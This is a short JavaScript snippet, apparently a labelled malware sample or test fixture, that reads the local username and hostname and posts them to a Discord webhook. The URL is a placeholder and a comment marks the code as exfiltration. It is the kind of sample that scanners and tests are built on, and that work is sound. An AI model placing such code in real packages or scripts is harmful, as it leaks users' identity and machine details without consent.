const os = require("os");

fetch("https://discord.com/api/webhooks/000/inert", { // malice: exfiltration
  method: "POST",
  body: JSON.stringify({ content: `${os.userInfo().username}@${os.hostname()}` }),
});
